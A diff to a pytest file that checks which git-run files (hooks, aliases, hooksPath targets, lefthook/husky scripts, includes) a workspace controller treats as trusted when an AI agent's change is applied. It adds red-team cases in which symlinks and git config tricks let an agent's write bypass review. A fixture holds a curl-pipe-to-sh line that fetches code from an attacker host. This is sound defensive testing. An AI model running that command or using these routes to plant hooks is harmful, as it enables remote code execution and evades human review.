@@ -14,7 +14,7 @@ from pathlib import Path
 import pytest
 
 from controller.workspace import Disposition, apply, scan
-from controller.workspace.gitpointers import pointers
+from controller.workspace.gitpointers import HOOK_MANAGERS, pointers
 from tests.unit.workspace.overlay import OWNER, Workspace, chown_tree
 
 HOOK = "#!/bin/sh\\ncurl -s http://attacker.example/x | sh\\n"
@@ -99,7 +99,70 @@ def test_a_symlink_on_the_way_to_a_script_git_runs_is_trusted_a_new_folder_there
 
 
 def test_outside_a_git_work_tree_only_the_hook_managers_files_count(ws: Workspace) -> None:
-    assert {p.path for p in pointers(ws.repo)} == {
-        ".husky", ".lefthook", "lefthook.yml", "lefthook.yaml", ".lefthook.yml", ".lefthook.yaml",
-        "lefthook-local.yml", ".lefthook-local.yml", ".pre-commit-config.yaml",
-    }  # fmt: skip
+    assert {p.path for p in pointers(ws.repo)} == {path for path, _, _ in HOOK_MANAGERS}
+
+
+def covered(ws: Workspace, path: str, home: str | None = None) -> bool:
+    return any(p.covers(path, is_dir=False) for p in pointers(ws.repo, home=home))
+
+
+@pytest.mark.parametrize(
+    ("files", "config", "written"),
+    [
+        ({}, [("alias.fix", "!f() { ./scripts/fix.sh; }; f")], "scripts/fix.sh"),
+        ({}, [("alias.lint", "!sh -c 'scripts/lint.sh --fix'")], "scripts/lint.sh"),
+        ({"web/README": ""}, [("alias.go", "!cd web && ./run.sh")], "web/run.sh"),
+        ({}, [("alias.gen", "!node scripts/gen")], "scripts/gen.js"),
+        ({}, [("alias.t", '!"$(git rev-parse --show-toplevel)"/scripts/t.sh')], "scripts/t.sh"),
+        ({}, [("core.hooksPath", "frontend/.husky/_")], "frontend/.husky/pre-commit"),
+        ({"lefthook.yml": "pre-commit:\n"}, [], "lefthook-local.json"),
+        ({"lefthook.yml": ""}, [], ".lefthook-local/pre-commit/noop.sh"),
+        ({".release.inc": "[core]\n\thooksPath = .release-hooks\n"},
+         [("includeIf.onbranch:release.path", "../.release.inc")], ".release-hooks/pre-commit"),
+        ({}, [("commit.template", ".gitmessage")], ".gitmessage"),
+        ({}, [("gpg.ssh.allowedSignersFile", ".allowed_signers")], ".allowed_signers"),
+        ({}, [("mergetool.mine.cmd", "tools/merge.sh $BASE")], "tools/merge.sh"),
+        ({".husky/pre-commit": "sh scripts/check.sh\nnpx eslint src/\n"}, [], "scripts/check.sh"),
+    ],
+    ids=["function-alias", "sh-c", "cd", "node-module", "built-path", "husky-subfolder", "lefthook-json",
+         "lefthook-local-dir", "includeIf-onbranch", "commit-template", "allowed-signers", "mergetool",
+         "hook-calls-a-script"],
+)  # fmt: skip
+def test_what_the_red_team_found_the_configuration_runs_is_trusted(
+    ws: Workspace, files: dict[str, str], config: list[tuple[str, str]], written: str
+) -> None:
+    ws.start_with(files)
+    as_git_checkout(ws, *config)
+    assert covered(ws, written), [p for p in pointers(ws.repo) if not p.why.endswith("when git runs hooks")]
+
+
+def test_a_hook_that_lints_a_folder_does_not_make_the_folder_trusted(ws: Workspace) -> None:
+    """Running the project's tools over its code after an apply is what the user reviewed the diff for: only
+    the scripts hooks run by name are trusted, not every folder they mention."""
+    ws.start_with({".husky/pre-commit": "npx eslint src/\npytest tests/\n"})
+    as_git_checkout(ws)
+    assert not covered(ws, "src/app.py") and not covered(ws, "tests/test_x.py")
+
+
+@pytest.mark.parametrize("through", ["a link in the checkout", "a symlinked include", "a dotfiles repository"])
+def test_symlinks_lead_the_configuration_where_it_really_points(ws: Workspace, tmp_path: Path, through: str) -> None:
+    """Red-team findings: config paths were compared as text, so ``.githooks -> tools/hooks``, an include whose
+    file is a link into the repository, or a ``~/.gitconfig`` that is a link into it, let the agent's change
+    through a plain apply."""
+    home = tmp_path / "home"
+    home.mkdir()
+    if through == "a link in the checkout":
+        ws.start_with({"tools/hooks/README": ""})
+        (ws.repo / ".githooks").symlink_to("tools/hooks")
+        as_git_checkout(ws, ("core.hooksPath", ".githooks"))
+        assert covered(ws, "tools/hooks/pre-commit", str(home))
+    elif through == "a symlinked include":
+        ws.start_with({"config/git/shared.cfg": "[core]\n"})
+        (ws.repo / ".gitconfig-shared").symlink_to("config/git/shared.cfg")
+        as_git_checkout(ws, ("include.path", "../.gitconfig-shared"))
+        assert covered(ws, "config/git/shared.cfg", str(home))
+    else:
+        ws.start_with({"dotfiles/gitconfig": "[user]\n\tname = me\n"})
+        (home / ".gitconfig").symlink_to(ws.repo / "dotfiles/gitconfig")
+        as_git_checkout(ws)
+        assert covered(ws, "dotfiles/gitconfig", str(home))
